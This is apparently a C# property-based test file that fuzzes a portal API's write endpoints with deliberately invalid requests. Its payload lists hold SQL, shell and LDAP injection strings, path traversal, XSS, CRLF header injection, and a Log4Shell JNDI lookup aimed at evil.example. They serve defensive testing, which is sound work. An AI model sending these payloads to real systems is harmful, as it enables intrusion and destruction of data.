using System.Text;
using System.Text.Json.Nodes;
using CsCheck;

namespace Portal.Api.Tests.Security;

/// <summary>One request made invalid on purpose, and what was done to it (printed by CsCheck with its seed on failure).</summary>
public sealed record InvalidRequest(
    string Kind, string Method, string Url, string? ContentType, byte[]? Body, IReadOnlyList<KeyValuePair<string, string>> Headers, string? Field)
{
    public override string ToString()
    {
        var body = Body is null ? "none" : Encoding.UTF8.GetString(Body);
        if (body.Length > 400) body = $"{body[..400]}… ({Body!.Length} bytes)";
        var headers = string.Join(", ", Headers.Select(h => $"{h.Key}: {(h.Value.Length > 60 ? h.Value[..60] + "…" : h.Value)}"));
        var url = Url.Length > 300 ? Url[..300] + "…" : Url;
        return $"[{Kind}{(Field is null ? "" : $" at {Field}")}] {Method} {url} content-type={ContentType ?? "none"} headers=[{headers}] body={body}";
    }
}

/// <summary>
/// Generates requests that no correct server may accept, from an operation's OpenAPI description: wrong JSON types,
/// missing required fields, strings over their maxLength, control characters and lone surrogates, look-alike
/// unicode and injection strings in identifiers, numbers outside their type, unknown fields, deep nesting, huge
/// arrays, malformed JSON, wrong content types, and bad path, query and precondition values. Every mutation is
/// invalid whatever the rest of the body holds, so any 2xx is a bug, not a judgement call.
/// </summary>
public sealed class InvalidRequests(WriteOperation operation, Func<OperationParameter, string> pathValue)
{
    /// <summary>Properties whose values are identifiers with a fixed grammar (slugs, versions, ARNs, quantities, URLs).</summary>
    private static readonly HashSet<string> Identifiers =
    [
        "slug", "addonId", "version", "kubernetesVersion", "awsAccountId", "region", "provisionerRoleArn", "email", "ownerEmail",
        "instanceTypes", "key", "value", "type", "cpu", "memory", "currency", "webhookUrl", "modelVersion", "iamRoleArn", "uri", "image",
    ];

    /// <summary>Free text that happens to be called "name" (a token's label) is not an identifier.</summary>
    public static bool IsIdentifier(WriteOperation operation, BodyField field) =>
        field.IsEnum || Identifiers.Contains(field.Name) || (field.Name == "name" && !operation.Template.EndsWith("/tokens", StringComparison.Ordinal));

    public static readonly string[] Injections =
    [
        "x'; DROP TABLE teams;--", "' OR '1'='1", "1; SELECT pg_sleep(5)", "$(reboot)", "`id`", "a;rm -rf /", "|cat /etc/passwd",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "{{7*7}}", "${jndi:ldap://evil.example/a}", "a\r\nSet-Cookie: pwned=1", "javascript:alert(1)", "admin'--", "*)(uid=*",
    ];

    /// <summary>Unicode that is fine in prose but never in an identifier: direction overrides, invisible and look-alike characters, emoji.</summary>
    public static readonly string[] LookAlikes =
    [
        "team\u202Eevil", "te\u200Bam", "team\uD83D\uDE80", "tea\u0301m", "\uFF54\uFF45\uFF41\uFF4D", "t\u0435am", "\uFEFFteam", "te\u00A0am",
        "\u0645\u0631\u062D\u0628\u0627", "TEAM", " team ", "team\u2028x",
    ];

    private const string LoneSurrogate = "__lone_surrogate__";
    private const string BadUtf8 = "__bad_utf8__";
    private const string RawNumber = "__raw_number__";

    private static readonly string[] ControlValues = ["a\u0000b", "\u0000", "x\u0001y", "esc\u001b[31m", "bell\u0007", "unit\u001fsep"];

    private static readonly string[] IntegerTokens = ["2147483648", "-2147483649", "1e400", "9.5", "1E+2", "-0.5", "99999999999999999999999", "0x10"];
    private static readonly string[] NumberTokens = ["1e400", "-1e400", "1e309", "NaN", "Infinity", "0x1F", "1.5.2", "--1"];

    private static readonly string[] UnknownNames = ["isAdmin", "unexpected", "__proto__", "$where", "teamId", "createdBy"];

    private static readonly string[] WrongContentTypes =
        ["application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "image/png", "application/octet-stream"];

    public Gen<InvalidRequest> Generator()
    {
        var fields = operation.Fields();
        var kinds = new List<Gen<InvalidRequest>>();
        if (operation.TakesJson)
        {
            var typed = fields.Where(f => f.Type is not null).ToList();
            var required = fields.Where(f => f.Required).ToList();
            var strings = fields.Where(f => f.Type == "string").ToList();
            var identifiers = strings.Where(f => IsIdentifier(operation, f)).Concat(fields.Where(f => f.Type == "array" && IsIdentifier(operation, f))).ToList();
            var numbers = fields.Where(f => f.Type is "integer" or "number").ToList();
            var arrays = fields.Where(f => f.Type == "array").ToList();
            var objects = fields.Where(f => f.IsPlainObject).ToList();

            if (typed.Count > 0) kinds.Add(Gen.Select(Gen.OneOf([.. typed]), Gen.Int[0, 3], WrongType));
            if (required.Count > 0) kinds.Add(Gen.OneOf([.. required]).Select(f => Body("missing-required", f, body => BodyPaths.Remove(body, f.Path))));
            if (strings.Count > 0)
            {
                kinds.Add(Gen.Select(Gen.OneOf([.. strings.Where(s => s.MaxLength is not null || IsIdentifier(operation, s)).DefaultIfEmpty(strings[0])]), Gen.Int[1, 64], Oversized));
                kinds.Add(Gen.Select(Gen.OneOf([.. strings]), Gen.Int[0, ControlValues.Length + 1], ControlCharacters));
            }
            if (identifiers.Count > 0)
            {
                kinds.Add(Gen.Select(Gen.OneOf([.. identifiers]), Gen.OneOf(LookAlikes), (f, v) => Replace("look-alike-unicode", f, v)));
                kinds.Add(Gen.Select(Gen.OneOf([.. identifiers]), Gen.OneOf(Injections), (f, v) => Replace("injection", f, v)));
            }
            if (numbers.Count > 0) kinds.Add(Gen.Select(Gen.OneOf([.. numbers]), Gen.Int[0, 7], OutOfRange));
            if (operation.BodySchema!["type"]?.GetValue<string>() == "object")
                kinds.Add(Gen.Select(Gen.OneOf<BodyField?>([null, .. objects]), Gen.OneOf(UnknownNames), UnknownField));
            kinds.Add(Gen.Select(Gen.OneOf<BodyField?>([null, .. fields]), Gen.Int[65, 3000], Gen.Bool, DeepNesting));
            if (arrays.Count > 0) kinds.Add(Gen.Select(Gen.OneOf([.. arrays]), Gen.Int[2_000, 20_000], HugeArray));
            kinds.Add(Gen.Select(Gen.Int[0, 14], Gen.Int[0, 1000], Malformed));
            kinds.Add(Gen.OneOf(WrongContentTypes).Select(WrongContentType));
        }
        if (operation.PathParameters.Any())
            kinds.Add(Gen.Select(Gen.OneOf([.. operation.PathParameters]), PathValues(), BadPath));
        if (operation.QueryParameters.Any())
            kinds.Add(Gen.Select(Gen.OneOf([.. operation.QueryParameters]), QueryValues(), BadQuery));
        if (operation.HonoursIfMatch)
            kinds.Add(Gen.OneOf("\"abc\"", "W/\"x\"", "\"1\", \"2\"", "\"99999999999999999999\"", "\"-5\"", "\"999999\"", "garbage", "\"\"")
                .Select(v => Request("bad-if-match", headers: [new("If-Match", v)], field: "If-Match")));
        if (operation.HonoursIdempotencyKey)
            kinds.Add(Gen.OneOf(new string('k', 256), new string('k', 5000), "tab\tinside")
                .Select(v => Request("bad-idempotency-key", headers: [new("Idempotency-Key", v)], field: "Idempotency-Key")));
        return Gen.OneOf<InvalidRequest>([.. kinds]);
    }

    private JsonNode BaseBody() => operation.Example(operation.BodySchema!) ?? new JsonObject();

    private string BaseUrl(OperationParameter? replaced = null, string? value = null, bool encoded = false) =>
        operation.Url(p => p == replaced ? (encoded ? value! : Uri.EscapeDataString(value!)) : Uri.EscapeDataString(pathValue(p)));

    private InvalidRequest Request(string kind, string? url = null, string? contentType = "application/json", byte[]? body = null,
        IReadOnlyList<KeyValuePair<string, string>>? headers = null, string? field = null)
    {
        body ??= operation.TakesJson ? Encoding.UTF8.GetBytes(BaseBody().ToJsonString()) : null;
        return new InvalidRequest(kind, operation.Method, url ?? BaseUrl(), body is null ? null : contentType, body, headers ?? [], field);
    }

    private InvalidRequest Body(string kind, BodyField? field, Func<JsonNode, JsonNode> mutate, Func<string, string>? raw = null, Func<byte[], byte[]>? bytes = null)
    {
        var text = mutate(BaseBody()).ToJsonString();
        if (raw is not null) text = raw(text);
        var body = Encoding.UTF8.GetBytes(text);
        if (bytes is not null) body = bytes(body);
        return Request(kind, body: body, field: field?.Display);
    }

    private InvalidRequest Replace(string kind, BodyField field, JsonNode? value) =>
        Body(kind, field, body => BodyPaths.Set(body, field.Path, field.Type == "array" ? new JsonArray(value) : value));

    private InvalidRequest WrongType(BodyField field, int pick)
    {
        JsonNode?[] wrong = field.Type switch
        {
            "string" => [42, true, new JsonArray(), new JsonObject()],
            "integer" => ["12", 1.5, true, new JsonArray()],
            "number" => ["1.5", true, new JsonArray(), new JsonObject()],
            "boolean" => ["true", 1, new JsonArray(), new JsonObject()],
            "array" => [new JsonObject(), "x", 1, true],
            _ => [new JsonArray(), "x", 1, true],
        };
        return Body("wrong-type", field, body => BodyPaths.Set(body, field.Path, wrong[pick % wrong.Length]));
    }

    private InvalidRequest Oversized(BodyField field, int extra)
    {
        var length = (field.MaxLength ?? 1024) + extra;
        return Body("oversized-string", field, body => BodyPaths.Set(body, field.Path, new string('a', length)));
    }

    private InvalidRequest ControlCharacters(BodyField field, int pick)
    {
        if (pick == ControlValues.Length)
            return Body("lone-surrogate", field, body => BodyPaths.Set(body, field.Path, LoneSurrogate),
                raw: text => text.Replace(LoneSurrogate, "a\\ud800b", StringComparison.Ordinal));
        if (pick == ControlValues.Length + 1)
            return Body("invalid-utf8", field, body => BodyPaths.Set(body, field.Path, BadUtf8), bytes: ReplaceWithInvalidUtf8);
        return Body("control-characters", field, body => BodyPaths.Set(body, field.Path, ControlValues[pick]));
    }

    private InvalidRequest OutOfRange(BodyField field, int pick)
    {
        var tokens = field.Type == "integer" ? IntegerTokens : NumberTokens;
        var token = tokens[pick % tokens.Length];
        return Body("number-out-of-range", field, body => BodyPaths.Set(body, field.Path, RawNumber),
            raw: text => text.Replace($"\"{RawNumber}\"", token, StringComparison.Ordinal));
    }

    private InvalidRequest UnknownField(BodyField? owner, string name) =>
        Body("unknown-field", owner, body =>
        {
            var target = owner is null ? body : BodyPaths.Get(body, owner.Path);
            if (target is JsonObject o) o[name] = true;
            else if (body is JsonObject root) root[name] = true;
            return body;
        }) with { Field = owner is null ? name : $"{owner.Display}.{name}" };

    private InvalidRequest DeepNesting(BodyField? field, int depth, bool arrays)
    {
        var open = arrays ? "[" : "{\"a\":";
        var close = arrays ? "]" : "}";
        var nested = string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
        const string marker = "__deep__";
        return Body("deep-nesting", field, body => field is null ? new JsonObject { ["deep"] = marker } : BodyPaths.Set(body, field.Path, marker),
            raw: text => text.Replace($"\"{marker}\"", nested, StringComparison.Ordinal));
    }

    private InvalidRequest HugeArray(BodyField field, int count)
    {
        var example = operation.Example(field.Schema, field.Name) as JsonArray;
        var element = example is { Count: > 0 } ? example[0] : "x";
        return Body("huge-array", field, body => BodyPaths.Set(body, field.Path, new JsonArray([.. Enumerable.Range(0, count).Select(_ => element?.DeepClone())])));
    }

    private InvalidRequest Malformed(int variant, int position)
    {
        var text = BaseBody().ToJsonString();
        var cut = Math.Clamp(position % Math.Max(text.Length - 1, 1), 1, Math.Max(text.Length - 1, 1));
        var broken = variant switch
        {
            0 => text[..cut],
            1 => text + "}",
            2 => text[..^1] + ",}",
            3 => text.Replace('"', '\''),
            4 => "/* comment */" + text,
            5 => "{" + text,
            6 => text.Replace(":", " ", StringComparison.Ordinal),
            7 => "\uFEFF{oops",
            8 => "[]",
            9 => "\"just a string\"",
            10 => "null",
            11 => "",
            12 => text + text,
            13 => Duplicated(text),
            _ => "{\"a\":NaN}",
        };
        // A body too small to break this way (a "{}" merge patch) gets a plainly broken one instead.
        if (broken == text) broken = "{oops";
        return Request("malformed-json", body: Encoding.UTF8.GetBytes(broken), field: "body");
    }

    /// <summary>The body's first member twice: <c>{"a":1,"a":1,…}</c> (parsers disagree on which one wins).</summary>
    private static string Duplicated(string text) =>
        JsonNode.Parse(text) is JsonObject { Count: > 0 } o && o.First() is var (name, value)
            ? $"{{{JsonValue.Create(name).ToJsonString()}:{value?.ToJsonString() ?? "null"},{text[1..]}"
            : "{\"a\":1,\"a\":2}";

    private InvalidRequest WrongContentType(string contentType) => Request("wrong-content-type", contentType: contentType, field: "Content-Type");

    private InvalidRequest BadPath(OperationParameter parameter, (string Value, bool Encoded) bad) =>
        Request("bad-path", url: BaseUrl(parameter, bad.Value, bad.Encoded), field: parameter.Name);

    private static Gen<(string Value, bool Encoded)> PathValues() => Gen.OneOf<(string Value, bool Encoded)>(
        Gen.OneOf(Injections).Select(v => (v, false)),
        Gen.OneOf(LookAlikes).Select(v => (v, false)),
        // NUL never reaches the app: Kestrel refuses a path with %00 before routing (an empty 400), and so does the test host.
        Gen.OneOf([.. ControlValues.Where(v => !v.Contains('\0'))]).Select(v => (v, false)),
        Gen.Int[200, 5000].Select(n => (new string('a', n), false)),
        // No bare dot segments: clients collapse "/x/.." before sending, which names another, valid resource.
        Gen.OneOf("..%2F..%2Fetc", "%ZZ", "%", "a%2Fb", "%C0%AE%C0%AE", "%E2%80%AE", "x%0D%0ALocation:%20https://evil.example")
            .Select(v => (v, true)),
        Gen.Guid.Select(g => (g.ToString(), false)));

    private static Gen<string> QueryValues() => Gen.OneOf<string>(
        Gen.OneOf(Injections), Gen.OneOf(LookAlikes), Gen.OneOf(ControlValues),
        Gen.OneOf("maybe", "2", "-1", "1e400", "2026-13-45", "99999-01-01", "yes please"),
        Gen.Int[300, 5000].Select(n => new string('q', n)));

    private InvalidRequest BadQuery(OperationParameter parameter, string value) =>
        Request("bad-query", url: $"{BaseUrl()}?{Uri.EscapeDataString(parameter.Name)}={Uri.EscapeDataString(value)}", field: parameter.Name);

    private static byte[] ReplaceWithInvalidUtf8(byte[] body)
    {
        var marker = Encoding.UTF8.GetBytes(BadUtf8);
        var at = body.AsSpan().IndexOf(marker);
        return at < 0 ? body : [.. body[..at], 0xC3, 0x28, 0xFF, .. body[(at + marker.Length)..]];
    }
}
